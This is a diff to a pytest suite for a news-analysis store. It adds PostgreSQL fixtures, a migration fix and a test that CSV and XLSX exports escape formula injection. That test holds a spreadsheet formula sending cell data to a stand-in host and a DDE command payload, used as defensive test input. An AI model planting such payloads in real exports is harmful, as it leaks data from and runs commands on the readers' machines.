@@ -10,9 +10,12 @@ import datetime as dt
 import json
 import os
 from pathlib import Path
+from typing import Iterator
 
 import pytest
 import sqlalchemy as sa
+
+from pg import scratch_url
 
 from core.model import Actor, Analysis, DocumentDate, Entity, Event, Mention, TimeExpr, Trigger
 from core.store import (ArticleNotFound, Filters, Store, content_hash, describe_timex, events_frame, is_agreement,
@@ -77,21 +80,15 @@ def reference_analysis(text: str = REFERENCE) -> Analysis:
 
 
 @pytest.fixture(params=["sqlite", "postgresql"])
-def store(request, tmp_path: Path) -> Store:
+def store(request, tmp_path: Path) -> Iterator[Store]:
     """A temporary SQLite store; also PostgreSQL when AKHBAR_TEST_PG_URL names a scratch database."""
     if request.param == "sqlite":
-        return Store(f"sqlite:///{tmp_path / 't.db'}")
-    url = os.environ.get("AKHBAR_TEST_PG_URL")
-    if not url:
-        pytest.skip("set AKHBAR_TEST_PG_URL to a scratch PostgreSQL database to run the store tests on it")
-    import sqlalchemy as sa
-
-    from core.store import metadata
-
-    engine = sa.create_engine(url)
-    metadata.drop_all(engine)
-    engine.dispose()
-    return Store(url)
+        yield Store(f"sqlite:///{tmp_path / 't.db'}")
+        return
+    for url in scratch_url():
+        s = Store(url)
+        yield s
+        s.engine.dispose()
 
 
 @pytest.mark.parametrize("value,mod,start,end,precision", [
@@ -179,14 +176,23 @@ def test_dedup_never_hands_over_another_visitors_private_article(store):
     assert store.save(reference_analysis(a.text), owner="bob") == (bobs, False)  # his own copy first
 
 
-def test_an_older_store_is_migrated_to_per_scope_dedup(tmp_path):
+@pytest.fixture(params=["sqlite", "postgresql"])
+def empty_db(request, tmp_path: Path) -> Iterator[str]:
+    """A URL with no tables yet, on either database."""
+    if request.param == "sqlite":
+        yield f"sqlite:///{tmp_path / 'old.db'}"
+    else:
+        yield from scratch_url()
+
+
+def test_an_older_store_is_migrated_to_per_scope_dedup(empty_db):
     """A schema-5 store (store-wide unique content hash, no scope) keeps its articles,
     their visibility and their dedup, and then accepts another visitor's copy."""
-    url = f"sqlite:///{tmp_path / 'old.db'}"
+    url = empty_db
     engine = sa.create_engine(url)
     with engine.begin() as c:
         c.execute(sa.text("CREATE TABLE articles (id VARCHAR(32) PRIMARY KEY, content_hash VARCHAR(64) NOT NULL "
-                          "UNIQUE, title TEXT, source TEXT, url TEXT, published DATE, created DATETIME NOT NULL, "
+                          "UNIQUE, title TEXT, source TEXT, url TEXT, published DATE, created TIMESTAMP NOT NULL, "
                           "public BOOLEAN NOT NULL, owner VARCHAR(64), n_chars INTEGER, n_entities INTEGER, "
                           "n_countries INTEGER, n_events INTEGER, n_agreements INTEGER, n_times INTEGER, "
                           "span_start DATE, span_end DATE, analysis_json TEXT NOT NULL)"))
@@ -194,7 +200,7 @@ def test_an_older_store_is_migrated_to_per_scope_dedup(tmp_path):
         c.execute(sa.text("INSERT INTO store_meta VALUES ('version', 1), ('schema', 5)"))
         a = reference_analysis()
         c.execute(sa.text("INSERT INTO articles (id, content_hash, title, created, public, owner, n_events, "
-                          "analysis_json) VALUES ('old1', :h, 'old title', '2024-01-01 00:00:00', 0, 'alice', 0, :j)"),
+                          "analysis_json) VALUES ('old1', :h, 'old title', '2024-01-01 00:00:00', FALSE, 'alice', 0, :j)"),
                   {"h": content_hash(a.text), "j": a.to_json()})
     engine.dispose()
     store = Store(url)
@@ -268,7 +274,32 @@ def test_export_json_and_csv(store):
     data = json.loads(store.export_json())
     assert len(data) == 1 and data[0]["analysis"]["text"] == REFERENCE
     csv = store.export_events_csv()
-    assert csv.splitlines()[0].startswith("article_id,") and len(csv.splitlines()) == 8
+    assert csv.startswith("\ufeffarticle_id,") and len(csv.splitlines()) == 8  # BOM: Excel reads UTF-8
+
+
+def test_exports_never_carry_a_formula(store):
+    """Text that starts like a formula is written as text to CSV and to XLSX."""
+    import io
+
+    import openpyxl
+
+    from core.store import analysis_csv, analysis_workbook
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    a = reference_analysis()
+    a.text = evil + "\n" + a.text[len(evil) + 1:]
+    for ev in a.events:
+        ev.sentence = evil
+    for e in a.entities[:1]:
+        e.name = "+cmd|' /C calc'!A0"
+    csv = analysis_csv(a)
+    assert csv.startswith("\ufeff") and not any(s in csv for s in ('\n=', ',=', ',"=', ',+', ',"+')) and "'=HYPERLINK" in csv
+    store.save(a, public=True)
+    assert ",=" not in store.export_events_csv() and "'=HYPERLINK" in store.export_events_csv()
+    wb = openpyxl.load_workbook(io.BytesIO(analysis_workbook(a)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or c.value.startswith(("=", "+", "@"))]
+    assert any(c.value.startswith("'=HYPERLINK") for c in cells) and any(c.value.startswith("'+cmd") for c in cells)
 
 
 def test_like_wildcards_are_escaped(store):
@@ -338,3 +369,10 @@ def test_known_hashes_and_bulk_rows_skip_stored_content(store):
     assert store.insert_rows(arts, children) == 1
     assert store.version() > v
     assert store.known_hashes([content_hash(b.text)]) == {content_hash(b.text)}
+
+
+@pytest.mark.parametrize("value,label", [("PXY", "some years"), ("P2Y", "2 years"), ("P1M", "1 month"),
+                                         ("PT5M", "5 minutes"), ("XXXX-XX-XX", "unknown date"),
+                                         ("PRESENT_REF", "now"), ("2021-SU", "summer 2021")])
+def test_readers_never_see_raw_timex_codes(value, label):
+    assert describe_timex(value) == label
